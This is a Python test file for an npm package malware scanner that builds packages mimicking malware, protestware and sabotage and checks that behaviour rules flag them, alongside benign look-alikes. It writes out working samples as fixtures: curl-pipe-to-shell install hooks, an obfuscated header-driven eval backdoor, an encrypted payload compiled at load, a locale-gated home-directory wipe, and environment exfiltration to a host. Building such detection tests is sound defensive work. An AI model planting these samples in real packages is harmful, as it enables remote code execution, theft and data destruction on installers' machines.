"""npm packages shaped like real malware, protestware and sabotage, built here, scanned end to
end: each is stopped by the rule named for what it does, with the line that does it."""

from __future__ import annotations

import json
from pathlib import Path

from builders import gzip_bytes, tar_bytes, write
from finalexam.analyze.behavior.engine import rule_hits
from finalexam.analyze.behavior.facts import Facts
from finalexam.analyze.behavior.rules import load_rules
from finalexam.config import Config
from finalexam.exam import run_exam
from finalexam.model import Finding, Report, Severity

ONLY_BEHAVIOUR = Config(disable=("secrets", "vulnerabilities", "binary", "yara"))


def npm_package(tmp_path: Path, name: str, files: dict[str, str], **manifest: object) -> Path:
    document = {"name": name, "version": "1.0.0", "main": "index.js", **manifest}
    members = {"package/package.json": json.dumps(document, indent=2)}
    members.update({f"package/{path}": text for path, text in files.items()})
    return write(tmp_path / f"{name}-1.0.0.tgz", gzip_bytes(tar_bytes(members)))


def findings(report: Report, rule_id: str) -> list[Finding]:
    return [f for f in report.findings if f.rule_id == rule_id]


def blocking(report: Report) -> set[str]:
    return {
        f.rule_id
        for f in report.findings
        if f.kind.value in ("behavior", "malicious") and f.severity.rank >= Severity.HIGH.rank
    }


# a protest module that leaves a note on the Desktop and in OneDrive as soon as it is imported
DESKTOP_NOTE = """import fs from 'fs';
import { homedir } from 'os';

var desk = `${homedir}/Desktop/`;
var cloud = `${homedir}/OneDrive/`;

function leaveNote(path, message) {
    try {
        fs.writeFile(path, message, function (err) {});
    } catch (err) {}
}

var note = 'A-NOTE-FOR-YOU.txt';
leaveNote(`${desk}${note}`, 'a message');
leaveNote(`${cloud}${note}`, 'a message');
export default 'ok';
"""


def test_a_module_writing_to_the_desktop_at_import_is_stopped(tmp_path: Path) -> None:
    report = run_exam(npm_package(tmp_path, "note", {"index.js": DESKTOP_NOTE}), ONLY_BEHAVIOUR)
    [finding] = findings(report, "thr-writes-user-folders")
    assert finding.severity is Severity.HIGH
    assert finding.evidence.line == 14
    assert "leaveNote" in (finding.evidence.snippet or "")
    assert finding.evidence.details["context"] == "import"
    assert not report.verdict.passed


def test_the_same_payload_bundled_by_esbuild_into_a_cjs_entry_is_stopped(tmp_path: Path) -> None:
    bundle = "\n".join(
        [
            '"use strict";',
            "var __toModule = (m) => m;",
            'var import_fs = __toModule(require("fs"));',
            "function ipcServe() { return 1; }",
            'var import_os = __toModule(require("os"));',
            'var desk = "".concat(import_os.homedir, "/Desktop/");',
            "function leaveNote(path2, message) {",
            "  import_fs.default.writeFile(path2, message, function(err) {});",
            "}",
            'leaveNote("".concat(desk).concat("A-NOTE.txt"), "text");',
            "module.exports = { ipcServe };",
        ]
    )
    report = run_exam(npm_package(tmp_path, "ipc", {"ipc.cjs": bundle}), ONLY_BEHAVIOUR)
    [finding] = findings(report, "thr-writes-user-folders")
    assert finding.location is not None and finding.location.path == "package/ipc.cjs"
    assert finding.evidence.line == 10


def test_commands_smuggled_in_request_headers_and_evaluated_are_stopped(tmp_path: Path) -> None:
    harness = "\n".join(
        [
            "'use strict';",
            "let harness = (req, res, callback, next) => {",
            "  module.exports.log = module.exports.log || Buffer.alloc(0xffff);",
            "  JSON.stringify(req.headers).replace(/g([a-f0-9]{4})h((?:[a-f0-9]{2})+)i/gi,",
            "    (o, p, v) => {",
            "      p = Buffer.from(p, 'hex').readUInt16LE(0);",
            "      if (p === 0xfffa) {",
            "        let c = module.exports.log.toString();",
            "        require('\\x76\\x6d')['\\x72\\x75\\x6e\\x49\\x6e\\x54\\x68\\x69\\x73\\x43"
            "\\x6f\\x6e\\x74\\x65\\x78\\x74'](c)(module.exports, require, req, res, next);",
            "      }",
            "      v = Buffer.from(v, 'hex');",
            "      for (let i = 0; i < v.length; i++) { module.exports.log[p + i] = v[i]; }",
            "    });",
            "  next();",
            "};",
            "module.exports.assert = (req, res, cb, next) => harness(req, res, cb, next);",
        ]
    )
    index = "const harness = require('./test/harness.js');\nmodule.exports = harness.assert;\n"
    files = {"index.js": index, "test/harness.js": harness}
    report = run_exam(npm_package(tmp_path, "cookies", files), ONLY_BEHAVIOUR)
    [finding] = findings(report, "thr-remote-code-eval")
    assert finding.severity is Severity.HIGH
    assert finding.location is not None and finding.location.path == "package/test/harness.js"
    assert finding.evidence.line == 9
    assert not report.verdict.passed


# sentry-cli 3.8.0 js/helper.js: the headers of the caller's settings become options of the
# package's own program
_CLI_WRAPPER = """const childProcess = require('child_process');
function execute(args, live, config = {}) {
  if (config.headers) {
    const headers = Object.entries(config.headers).flatMap(([k, v]) => ['--header', `${k}:${v}`]);
    args = [...headers, ...args];
  }
  return childProcess.spawn(require('path').join(__dirname, 'bin', 'cli'), args);
}
module.exports = { execute };
"""


def test_the_headers_of_a_callers_settings_are_no_request(tmp_path: Path) -> None:
    honest = npm_package(tmp_path, "cliwrap", {"index.js": _CLI_WRAPPER})
    assert findings(run_exam(honest, ONLY_BEHAVIOUR), "thr-remote-code-eval") == []
    # a request's headers given to the same program are still commands from the request
    served = _CLI_WRAPPER.replace(
        "function execute(args, live, config = {})",
        "function execute(args, live, config = {}, req)",
    ).replace("Object.entries(config.headers)", "Object.entries(req.headers)")
    report = run_exam(npm_package(tmp_path, "cliserve", {"index.js": served}), ONLY_BEHAVIOUR)
    assert findings(report, "thr-remote-code-eval")


def test_a_payload_decrypted_with_the_consumers_description_and_compiled_is_stopped(
    tmp_path: Path,
) -> None:
    payload = "\n".join(
        [
            "var r = require, t = process;",
            "function e(r) { return Buffer.from(r, 'hex').toString(); }",
            "var n = r(e('2e2f746573742f64617461')), o = t[e(n[3])][e(n[4])];",
            "if (o) {",
            "  var u = r(e(n[2]))[e(n[6])](e(n[5]), o),",
            "      a = u.update(n[0], e(n[8]), e(n[9]));",
            "  a += u.final(e(n[9]));",
            "  var f = new module.constructor();",
            "  f.paths = module.paths, f[e(n[7])](a, ''), f.exports(n[1]);",
            "}",
        ]
    )
    plain = "\n".join(
        [
            "var crypto = require('crypto');",
            "var key = process.env.npm_package_description;",
            "var d = crypto.createDecipher('aes256', key);",
            "var code = d.update(blob, 'hex', 'utf8');",
            "code += d.final('utf8');",
            "var m = new module.constructor();",
            "m.paths = module.paths;",
            "m._compile(code, '');",
        ]
    )
    files = {"index.js": "module.exports = require('./lib/stream.js');\n", "lib/stream.js": plain}
    files["lib/min.js"] = payload
    report = run_exam(npm_package(tmp_path, "flatmap", files), ONLY_BEHAVIOUR)
    [finding] = findings(report, "thr-decrypt-eval")
    assert finding.severity is Severity.CRITICAL
    assert finding.location is not None and finding.location.path == "package/lib/stream.js"
    assert finding.evidence.line == 8


def test_a_locale_gated_message_is_reported_as_protestware_without_blocking(
    tmp_path: Path,
) -> None:
    script = "\n".join(
        [
            "'use strict';",
            "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;",
            "const zones = new Set(['Europe/Moscow', 'Europe/Samara', 'Asia/Omsk']);",
            "if (zones.has(zone)) {",
            "  console.log('A message for the people of one country');",
            "}",
        ]
    )
    tgz = npm_package(
        tmp_path, "msg", {"_postinstall.js": script}, scripts={"postinstall": "node _postinstall"}
    )
    report = run_exam(tgz, ONLY_BEHAVIOUR)
    gated = findings(report, "prot-locale-gated-message")
    assert gated and all(f.severity is Severity.MEDIUM for f in gated)
    assert {f.evidence.line for f in gated} == {5}
    assert blocking(report) == set()


def test_a_locale_gated_deletion_is_high(tmp_path: Path) -> None:
    script = "\n".join(
        [
            "const fs = require('fs'), os = require('os');",
            "const lang = process.env.LANG || '';",
            "if (lang.startsWith('ru')) {",
            "  fs.rmSync(os.homedir(), { recursive: true, force: true });",
            "}",
        ]
    )
    report = run_exam(npm_package(tmp_path, "wipe", {"index.js": script}), ONLY_BEHAVIOUR)
    assert {"prot-locale-gated-action", "thr-deletes-wholesale"} <= blocking(report)


def test_an_endless_loop_at_import_is_sabotage(tmp_path: Path) -> None:
    index = "\n".join(
        [
            "const colors = require('./lib/colors');",
            "module.exports = colors;",
            "for (let i = 666; i < Infinity; i++) {",
            "  console.log(colors.rainbow('LIBERTY LIBERTY LIBERTY'));",
            "}",
        ]
    )
    report = run_exam(npm_package(tmp_path, "colours", {"index.js": index}), ONLY_BEHAVIOUR)
    [finding] = findings(report, "sab-endless-loop")
    assert finding.severity is Severity.HIGH and finding.evidence.line == 3


# Firefox ESR 153's about:webrtc (aboutWebrtc.mjs in omni.ja) refreshes its page forever
_POLLING_PAGE = """\
(async () => {
  const INTERVAL_MS = 250;
  async function autorefresh() {
    await Promise.all(sections.map(s => s.autoUpdate()));
    return INTERVAL_MS;
  }
  let timeout = INTERVAL_MS;
  while (true) {
    timeout = await autorefresh();
    await new Promise(r => setTimeout(r, timeout));
  }
})();
"""


def test_an_endless_loop_that_awaits_each_turn_is_a_poll(tmp_path: Path) -> None:
    polling = npm_package(tmp_path, "webrtcpage", {"index.js": _POLLING_PAGE})
    assert findings(run_exam(polling, ONLY_BEHAVIOUR), "sab-endless-loop") == []
    # the same loop calling without waiting never gives the event loop back
    spinning = _POLLING_PAGE.replace("timeout = await autorefresh();", "autorefresh();").replace(
        "    await new Promise(r => setTimeout(r, timeout));\n", ""
    )
    report = run_exam(npm_package(tmp_path, "webrtcspin", {"index.js": spinning}), ONLY_BEHAVIOUR)
    assert "sab-endless-loop" in blocking(report)


def test_inline_node_scripts_of_install_hooks_and_html_scripts_are_read(tmp_path: Path) -> None:
    command = (
        "node -e \"require('child_process').execSync('curl -s http://203.0.113.7/i.sh | sh')\""
    )
    page = "<html><body>\n<p>docs</p>\n<script>\neval(atob('YWxlcnQoMSk='));\n</script></body>"
    tgz = npm_package(
        tmp_path, "hooked", {"index.js": "", "docs/index.html": page}, scripts={"install": command}
    )
    report = run_exam(tgz, ONLY_BEHAVIOUR)
    [hook] = findings(report, "thr-shell-downloader")
    assert hook.location is not None and hook.location.path == "package/package.json"
    assert hook.evidence.details["context"] == "install"
    [html] = findings(report, "thr-decoded-exec")
    assert html.location is not None and html.location.path == "package/docs/index.html"
    assert html.evidence.line == 4


def test_ordinary_node_code_stays_clean(tmp_path: Path) -> None:
    library = "\n".join(
        [
            "const fs = require('fs');",
            "const path = require('path');",
            "const os = require('os');",
            "const { execFileSync } = require('child_process');",
            "const cache = path.join(os.homedir(), '.cache', 'tool');",
            "fs.mkdirSync(cache, { recursive: true });",
            "function version() { return execFileSync('git', ['describe']).toString(); }",
            "function save(name, data) { fs.writeFileSync(path.join(cache, name), data); }",
            "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;",
            "if (tz === 'UTC') { console.log('server time'); }",
            "while (true) { const job = queue.shift(); if (!job) break; job(); }",
            "module.exports = { version, save, tz };",
        ]
    )
    report = run_exam(npm_package(tmp_path, "honest", {"index.js": library}), ONLY_BEHAVIOUR)
    assert blocking(report) == set()
    assert report.verdict.passed


def test_a_package_emptied_of_its_code_is_reported_as_sabotage(tmp_path: Path) -> None:
    """faker 6.6.6: every library file removed, the manifest still names index.js: high,
    the release fails. npm's security holding packages are shells naming no code: medium."""
    files = {"Readme.md": "# gone\n", ".eslintrc": "{}", ".github/FUNDING.yml": "x: y\n"}
    report = run_exam(npm_package(tmp_path, "emptied", files), ONLY_BEHAVIOUR)
    [finding] = findings(report, "sab-package-without-code")
    assert finding.severity is Severity.HIGH and "'index.js'" in finding.message
    assert finding.location is not None and finding.location.path == "package/package.json"
    assert not report.verdict.passed
    holder = npm_package(tmp_path, "holder", {"README.md": "# security holding package\n"},
                         main=None, description="security holding package")  # fmt: skip
    report = run_exam(holder, ONLY_BEHAVIOUR)
    [finding] = findings(report, "sab-package-without-code")
    assert finding.severity is Severity.MEDIUM and report.verdict.passed
    data_only = npm_package(tmp_path, "ids", {"index.json": "[]", "README.md": "# ids\n"})
    assert findings(run_exam(data_only, ONLY_BEHAVIOUR), "sab-package-without-code") == []


def test_a_subpath_manifest_pointing_into_the_build_is_no_empty_package(tmp_path: Path) -> None:
    """@reduxjs/toolkit 2's query/react/package.json only points into ../../dist: Node resolves
    the subpath there, so that folder ships no code of its own and is no emptied package. A
    subpath manifest naming a file that is not shipped is still one."""
    proxy = json.dumps(
        {"name": "@reduxjs/toolkit-query-react", "version": "1.0.0",
         "main": "../../dist/query/react/cjs/index.js"}
    )  # fmt: skip
    files = {
        "index.js": "module.exports = require('./dist/index.js');\n",
        "dist/index.js": "module.exports = {};\n",
        "dist/query/react/cjs/index.js": "module.exports = {};\n",
        "query/react/package.json": proxy,
    }
    report = run_exam(npm_package(tmp_path, "toolkit", files), ONLY_BEHAVIOUR)
    assert findings(report, "sab-package-without-code") == []
    del files["dist/query/react/cjs/index.js"]
    report = run_exam(npm_package(tmp_path, "toolkit-cut", files), ONLY_BEHAVIOUR)
    [finding] = findings(report, "sab-package-without-code")
    assert finding.location is not None
    assert finding.location.path == "package/query/react/package.json"
    assert finding.severity is Severity.HIGH and not report.verdict.passed


def test_node_dot_in_an_install_hook_runs_the_main_file_at_install_time(tmp_path: Path) -> None:
    main = (
        "const { exec } = require('child_process');\nexec('curl -s http://203.0.113.7/a | sh');\n"
    )
    tgz = npm_package(
        tmp_path,
        "dot",
        {"build/main.js": main},
        main="build/main.js",
        scripts={"postinstall": "node . --postinstall"},
    )
    report = run_exam(tgz, ONLY_BEHAVIOUR)
    contexts = {f.evidence.details.get("context") for f in findings(report, "thr-shell-downloader")}
    assert "install" in contexts


# a minified application bundle (jupyterlab 4.6.6's jlab_core, notebook 7.6.5's notebook_core):
# one function keeps the language in `s`, another function's own `s` decides whether to open a
# page; webpack's one-letter names are reused in every function
_BUNDLE = (
    "(()=>{var t={};function a(e){let s=navigator.language;return e.format(s)}"
    "function b(e,t){let s=t.get('fetchNews');if(s){window.open(e.url,'_blank')}}"
    "t.a=a,t.b=b,module.exports=t})();"
)


def test_a_minified_name_holds_the_language_only_in_its_own_function(tmp_path: Path) -> None:
    honest = npm_package(tmp_path, "labcore", {"index.js": _BUNDLE})
    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
    # the language read in the same function that opens the page gates it
    gated = _BUNDLE.replace("let s=t.get('fetchNews');", "let s=navigator.language==='ru-RU';")
    report = run_exam(npm_package(tmp_path, "labgated", {"index.js": gated}), ONLY_BEHAVIOUR)
    assert "prot-locale-gated-action" in blocking(report)


# ray 2.60.0's dashboard bundle formats job times in the browser's time zone at load
_DASHBOARD = (
    "const zone = (opts && opts.timeZone) || Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
    "fetch('/api/jobs').then(r => r.json()).then(jobs => render(jobs, zone));\n"
    "function render(jobs, zone) {\n"
    "  return jobs.map(j => new Date(j.start).toLocaleString('en-US', { timeZone: zone }));\n"
    "}\n"
)


def test_a_time_zone_read_to_format_dates_does_not_block(tmp_path: Path) -> None:
    honest = npm_package(tmp_path, "dashboard", {"index.js": _DASHBOARD})
    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
    # the time zone choosing whom to post to is protestware
    gated = _DASHBOARD.replace(
        "fetch('/api/jobs')",
        "if (zone === 'Europe/Moscow') fetch('https://203.0.113.9/x', { method: 'POST' });\n"
        "fetch('/api/jobs')",
    )
    report = run_exam(npm_package(tmp_path, "zonegate", {"index.js": gated}), ONLY_BEHAVIOUR)
    assert "prot-locale-gated-action" in blocking(report)


# vite 8.4.1's dev server refuses to serve secrets: server.fs.deny
_DEV_SERVER = """\
const fs = require('fs'), path = require('path'), http = require('http');
const serverConfigDefaults = Object.freeze({
  port: 5173,
  fs: { strict: true, deny: ['.env', '.env.*', '*.{crt,pem,key,p12,pfx,cer,der}', '.npmrc'] },
});
http.createServer((req, res) => res.end(fs.readFileSync(path.join(process.cwd(), req.url))));
module.exports = { serverConfigDefaults };
"""


def test_a_list_of_files_a_server_refuses_is_not_a_reach_for_them(tmp_path: Path) -> None:
    honest = npm_package(tmp_path, "devserver", {"index.js": _DEV_SERVER})
    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
    # the same names as a list of files to collect are
    collecting = _DEV_SERVER.replace("deny: [", "collect: [")
    report = run_exam(npm_package(tmp_path, "collector", {"index.js": collecting}), ONLY_BEHAVIOUR)
    assert "thr-cloud-credentials" in blocking(report)


# arize-phoenix 20.26.1's settings page (its bundled UI): compiled JSX explains where boto3
# finds the AWS keys
_SETTINGS_PAGE = """\
const {jsx: q} = require('react/jsx-runtime');
const settings = fetch('/api/settings').then(r => r.json());
const help = q(Pl, {variant: `info`, children:
  `Uses boto3 default credential chain: IAM role, environment variables, or ~/.aws/credentials.`});
module.exports = { settings, help };
"""


def test_a_sentence_a_page_shows_is_not_a_reach_for_the_files_it_names(tmp_path: Path) -> None:
    honest = npm_package(tmp_path, "awshelppage", {"index.js": _SETTINGS_PAGE})
    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
    # a bare path under the same key is no sentence; a sentence under another key is no text
    # a page shows
    bare = _SETTINGS_PAGE.replace("`Uses boto3", "`~/.aws/credentials`, note: `Uses boto3")
    report = run_exam(npm_package(tmp_path, "awshelpbare", {"index.js": bare}), ONLY_BEHAVIOUR)
    assert "thr-cloud-credentials" in blocking(report)
    command = _SETTINGS_PAGE.replace("children:", "command:")
    report = run_exam(npm_package(tmp_path, "awshelpcmd", {"index.js": command}), ONLY_BEHAVIOUR)
    assert "thr-cloud-credentials" in blocking(report)


def test_a_sentence_a_page_shows_is_told_in_a_bundle_read_as_text_too() -> None:
    """arize-phoenix's UI bundle is 5.2 MB, over the size parsed into a tree: its text is
    read by the raw patterns, which pass over the same sentences."""
    rules = load_rules()
    as_text = Facts(parsed=False)
    hits = rule_hits(_SETTINGS_PAGE, "javascript", rules, default_context="import", facts=as_text)
    assert "thr-cloud-credentials" not in {hit.rule.id for hit in hits}
    bare = _SETTINGS_PAGE.replace("`Uses boto3", "`~/.aws/credentials`, note: `Uses boto3")
    hits = rule_hits(bare, "javascript", rules, default_context="import", facts=as_text)
    assert "thr-cloud-credentials" in {hit.rule.id for hit in hits}


def _suffix_table(extra: list[str], size: int) -> str:
    """A Public Suffix List shaped module (psl 1.15.0's data/rules.js): thousands of suffixes,
    among them the tunnel and dynamic-DNS suffixes that hosting providers register."""
    suffixes = [f"{word}{n}.example" for n in range(size) for word in ("co", "*.cust")]
    return (
        "const https = require('https');\n"
        "export const rules = [\n"
        + ",\n".join(json.dumps(s) for s in [*suffixes[:size], *extra])
        + "\n];\n"
        "export function lookup(domain) { return rules.indexOf(domain) >= 0; }\n"
    )


def test_a_table_of_domain_suffixes_is_data_not_a_host_reached(tmp_path: Path) -> None:
    listed = ["ngrok.io", "ap.ngrok.io", "duckdns.org", "!city.kawasaki.jp"]
    honest = npm_package(tmp_path, "suffixes", {"index.js": _suffix_table(listed, 400)})
    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
    # a short fallback list of command-and-control hosts is still a list of hosts
    few = npm_package(tmp_path, "fallback", {"index.js": _suffix_table(listed, 6)})
    assert "thr-paste-or-tunnel" in blocking(run_exam(few, ONLY_BEHAVIOUR))
    # and so is an address in the long table that names more than a host
    url = npm_package(
        tmp_path,
        "urltable",
        {"index.js": _suffix_table(["https://pastebin.com/raw/abc123"], 400)},
    )
    assert "thr-paste-or-tunnel" in blocking(run_exam(url, ONLY_BEHAVIOUR))


# pyright 1.1.414's dist/vendor.js bundles vscode-languageserver, which runs
# `npm config get prefix` with a copy of the environment (webpack-minified)
_NPM_PREFIX = (
    'const c=require("child_process"),h=require("https");'
    'function Q(A){let e="npm",t=Object.create(null);'
    "Object.keys(process.env).forEach(A=>t[A]=process.env[A]),"
    't.NO_UPDATE_NOTIFIER="true";let r={encoding:"utf8",env:t};'
    'let o=(0,c.spawnSync)(e,["config","get","prefix"],r).stdout;return o}'
    "module.exports=Q(null);\n"
)


def test_an_environment_copied_for_a_child_process_is_not_collected(tmp_path: Path) -> None:
    honest = npm_package(tmp_path, "langserver", {"index.js": _NPM_PREFIX})
    assert blocking(run_exam(honest, ONLY_BEHAVIOUR)) == set()
    # the same copy posted to a server is collected
    posted = _NPM_PREFIX.replace(
        'let r={encoding:"utf8",env:t};',
        'let r={encoding:"utf8"};'
        'h.request({host:"203.0.113.9",method:"POST"}).end(JSON.stringify(t));',
    )
    report = run_exam(npm_package(tmp_path, "envpost", {"index.js": posted}), ONLY_BEHAVIOUR)
    assert "thr-env-exfil" in blocking(report)


# Next.js 16's manifest loader and edge sandbox read the file they are handed and run it in a
# context, as every module loader does; a file the package itself names, run the same way,
# is a payload it carries
LOADER = """const fs = require('fs');
const vm = require('vm');
function loadManifest(path, context) {
    const content = fs.readFileSync(path, 'utf8');
    return vm.runInContext(content, context, { filename: path });
}
module.exports = { loadManifest };
"""
CARRIED = """const fs = require('fs');
const vm = require('vm');
const content = fs.readFileSync(__dirname + '/data/blob.txt', 'utf8');
vm.runInThisContext(content);
"""


def test_a_module_loader_running_the_file_it_is_handed_is_not_a_carried_payload(
    tmp_path: Path,
) -> None:
    loader = run_exam(npm_package(tmp_path, "loader", {"index.js": LOADER}), ONLY_BEHAVIOUR)
    assert "thr-decoded-exec" not in blocking(loader)
    carried = run_exam(npm_package(tmp_path, "carried", {"index.js": CARRIED}), ONLY_BEHAVIOUR)
    [finding] = findings(carried, "thr-decoded-exec")
    assert finding.severity is Severity.HIGH
    assert finding.evidence.line == 4


# esbuild's old wasm packages (@esbuild/android-x64 0.28) start the Go runtime's loader, a
# module the package ships, through Function(): read as text, the module is examined itself
WASM_LAUNCHER = """#!/usr/bin/env node
const path = require('path');
const fs = require('fs');
const wasm_exec_node = path.join(__dirname, '..', 'wasm_exec_node.js');
const code = fs.readFileSync(wasm_exec_node, 'utf8');
const wrapper = new Function('require', 'WebAssembly', code);
wrapper(require, WebAssembly);
"""


def test_a_module_of_the_package_run_through_function_is_no_carried_payload(
    tmp_path: Path,
) -> None:
    files = {"bin/esbuild": WASM_LAUNCHER, "wasm_exec_node.js": "module.exports = 1;\n"}
    launcher = run_exam(npm_package(tmp_path, "wasmlaunch", files), ONLY_BEHAVIOUR)
    assert "thr-decoded-exec" not in blocking(launcher)
    # the same launcher running a data file the package carries still counts
    blob = {"bin/esbuild": WASM_LAUNCHER.replace("wasm_exec_node.js", "wasm_exec_node.dat")}
    carried = run_exam(npm_package(tmp_path, "wasmblob", blob), ONLY_BEHAVIOUR)
    assert "thr-decoded-exec" in blocking(carried)


# a minified bundle is one line: @vercel/nft reads its own npm_config_* settings inside a
# function; the same line's top-level code is still import-time code
_IN_A_FUNCTION = (
    "function h(e){const d='npm_config_';Object.keys(process.env).forEach((k=>{"
    "if(k.indexOf(d)!==0)return;e[k]=process.env[k]}))}"
)
_AT_IMPORT = "const b=JSON.stringify(process.env);"
_SENDS = "require('https').request({host:'example.org'}).end(b);"


def test_a_minified_line_has_runtime_and_import_time_code(tmp_path: Path) -> None:
    bundle = f"{_IN_A_FUNCTION}module.exports=h;require('https');\n"
    runtime = run_exam(npm_package(tmp_path, "bundle", {"index.js": bundle}), ONLY_BEHAVIOUR)
    [finding] = findings(runtime, "thr-env-exfil")
    assert finding.severity is Severity.INFO
    # decoys inside functions placed first on the line do not hide the import-time copy
    decoys = _IN_A_FUNCTION * 4
    bundle = f"{decoys}{_AT_IMPORT}{_SENDS}module.exports=h;\n"
    sent = run_exam(npm_package(tmp_path, "sender", {"index.js": bundle}), ONLY_BEHAVIOUR)
    [finding] = findings(sent, "thr-env-exfil")
    assert finding.severity is Severity.HIGH
    assert finding.evidence.details["context"] == "import"


# Module Federation's runtime (in jupyterlab 4.6's galata bundle) fetches the module its
# caller names and runs it; the same function handed a literal URL in the file is a dropper
REMOTE_LOADER = """const vm = require('vm');
async function loadModule(url, options) {
    const code = await (await fetch(url)).text();
    const module = new vm.SourceTextModule(code, {});
    await module.evaluate();
    return module;
}
module.exports = { loadModule };
"""


def test_a_loader_fetching_the_url_its_caller_names_is_no_download_and_run(
    tmp_path: Path,
) -> None:
    loader = npm_package(tmp_path, "loader", {"index.js": REMOTE_LOADER})
    assert not blocking(run_exam(loader, ONLY_BEHAVIOUR))
    called = REMOTE_LOADER + "loadModule('https://cdn.example.net/m.js', {});\n"
    dropper = npm_package(tmp_path, "dropper", {"index.js": called})
    assert "thr-remote-code-eval" in blocking(run_exam(dropper, ONLY_BEHAVIOUR))


# playwright's bundled ip-address library documents a call it never makes, at import, beside
# the bundle's network code
_DOCUMENTED_CALL = """\
const http = require('http');
/**
 * Parse a subnet mask given as separate strings (e.g. as returned by Node's
 * `os.networkInterfaces()`). Throws `AddressError` if the mask is invalid.
 */
function fromAddressAndMask(address, mask) { return { address, mask }; }
// os.networkInterfaces() is the caller's to read
http.get('http://203.0.113.9/status', (res) => res.resume());
module.exports = { fromAddressAndMask };
"""


def test_a_call_named_in_a_comment_is_not_made(tmp_path: Path) -> None:
    package = npm_package(tmp_path, "ipaddr", {"index.js": _DOCUMENTED_CALL})
    assert findings(run_exam(package, ONLY_BEHAVIOUR), "thr-system-recon") == []
    # the same call as code, beside the same comments, still counts
    made = _DOCUMENTED_CALL.replace(
        "module.exports", "const ifaces = os.networkInterfaces();\nmodule.exports"
    )
    made = "const os = require('os');\n" + made
    report = run_exam(npm_package(tmp_path, "ipmade", {"index.js": made}), ONLY_BEHAVIOUR)
    assert findings(report, "thr-system-recon") != []


# storybook 10's dev server: its own addresses, read at module level, for the URL it prints
_OWN_ADDRESSES = """\
const os = require('os');
const http = require('http');
var ifaces = os.networkInterfaces(), getOwnAddresses = () => {
  return Object.values(ifaces).flat().filter((i) => i.family === 'IPv4' && !i.internal);
};
function start(port) {
  http.createServer((req, res) => res.end('ok')).listen(port);
  return getOwnAddresses().map((i) => `http://${i.address}:${port}/`);
}
module.exports = { start };
"""


def test_the_machines_addresses_only_functions_read_are_a_declaration(tmp_path: Path) -> None:
    package = npm_package(tmp_path, "devserver", {"index.js": _OWN_ADDRESSES})
    assert blocking(run_exam(package, ONLY_BEHAVIOUR)) == set()
    # read at module level and sent: import-time recon
    sent = _OWN_ADDRESSES.replace(
        "module.exports",
        "http.get('http://203.0.113.9/?i=' + JSON.stringify(ifaces));\nmodule.exports",
    )
    report = run_exam(npm_package(tmp_path, "beacon", {"index.js": sent}), ONLY_BEHAVIOUR)
    assert "thr-system-recon" in blocking(report)


def test_comments_read_as_text_are_skipped_like_parsed_ones() -> None:
    """A bundle past the parser's budget is read as text: comments that open their line are
    still comments; a URL's // inside a string is not one."""
    from finalexam.analyze.behavior.engine import rule_hits
    from finalexam.analyze.behavior.facts import Facts
    from finalexam.analyze.behavior.rules import load_rules

    def recon(text: str) -> list[str]:
        hits = rule_hits(text, "javascript", load_rules(), facts=Facts(parsed=False))
        return [h.rule.id for h in hits if h.rule.id == "thr-system-recon"]

    assert recon(_DOCUMENTED_CALL) == []
    assert recon("const u = 'https://x.invalid/' + os.networkInterfaces();\n") != []
